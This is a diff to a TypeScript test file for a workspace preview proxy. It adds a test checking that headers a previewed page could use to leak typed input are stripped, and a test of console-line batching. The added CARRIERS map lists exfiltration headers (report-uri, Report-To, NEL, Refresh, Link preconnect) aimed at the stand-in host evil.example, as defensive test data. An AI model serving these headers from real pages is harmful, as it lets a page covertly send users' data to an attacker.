@@ -1,10 +1,22 @@
 import { once } from "node:events";
 import { createServer, type IncomingMessage, request, type Server } from "node:http";
 import { type AddressInfo, connect, type Socket } from "node:net";
+import { runInNewContext } from "node:vm";
 import { AppError } from "@guildhall/contracts";
 import { afterAll, beforeAll, expect, it } from "vitest";
+import { CONSOLE_SCRIPT } from "../../src/api/preview/preview-host.ts";
 import type { BusEvents } from "../../src/platform/index.ts";
 import { ask, openTestDoors, type TestDoors } from "./test-doors.ts";
+
+/** Headers by which a page could send out what is typed into it, whatever its policy says. */
+const CARRIERS = {
+  "content-security-policy-report-only": "default-src 'none'; report-uri https://evil.example/",
+  "reporting-endpoints": 'out="https://evil.example/"',
+  "report-to": '{"group":"out","max_age":1,"endpoints":[{"url":"https://evil.example/"}]}',
+  nel: '{"report_to":"out","max_age":1}',
+  refresh: "0; url=https://evil.example/",
+  link: "<https://evil.example/>; rel=preconnect",
+};
 
 const seen: IncomingMessage[] = [];
 let program: Server;
@@ -25,6 +37,7 @@ beforeAll(async () => {
         "content-type": "text/html; charset=utf-8",
         "set-cookie": "evil=1",
         "content-security-policy": "frame-ancestors *",
+        ...CARRIERS,
       });
       response.end("<!doctype html><html><head><title>hi</title></head></html>");
     }
@@ -62,7 +75,7 @@ const get = (path: string, headers: Record<string, string> = {}) =>
 it("shows the program under its own origin, framed by the workspace only, without cookies of its own", async () => {
   const page = await get("/", { cookie: `guildhall_session_${test.port}=secret; theme=dark` });
   expect(page.status).toBe(200);
-  expect(page.headers["set-cookie"]).toBeUndefined();
+  for (const name of ["set-cookie", ...Object.keys(CARRIERS)]) expect(page.headers[name]).toBeUndefined();
   expect(page.headers["content-security-policy"]).toContain(`frame-ancestors http://127.0.0.1:${test.port}`);
   expect(page.headers["content-security-policy"]).toContain(`connect-src 'self' ws://${host}`);
   expect(seen.at(-1)?.headers.cookie).toBe("theme=dark");
@@ -101,6 +114,23 @@ it("tells the workbench what the page writes to its console, at most fifty lines
   expect(told.status).toBe(204);
   expect(lines).toHaveLength(50);
   expect(lines[0]).toMatchObject({ level: "error", text: "line 0", projectId: "prj_1" });
+});
+
+it("sends sixty lines of a page that says nothing more", () => {
+  const bodies: string[] = [];
+  const timers: (() => void)[] = [];
+  const page = {
+    console: { log: () => {}, info: () => {}, debug: () => {}, warn: () => {}, error: () => {} },
+    addEventListener: () => {},
+    fetch: async (_path: string, { body }: { body: string }) => void bodies.push(body),
+    setTimeout: (work: () => void) => timers.push(work),
+  };
+  runInNewContext(CONSOLE_SCRIPT, page);
+  runInNewContext("for (let i = 0; i < 60; i++) console.log('line ' + i)", page);
+  for (let work = timers.shift(); work; work = timers.shift()) work();
+  const told = bodies.map((body) => JSON.parse(body) as { text: string }[]);
+  expect(told.map((lines) => lines.length)).toEqual([50, 10]);
+  expect(told.flat().at(-1)?.text).toBe("line 59");
 });
 
 it("carries an upgraded connection, without our cookies", async () => {
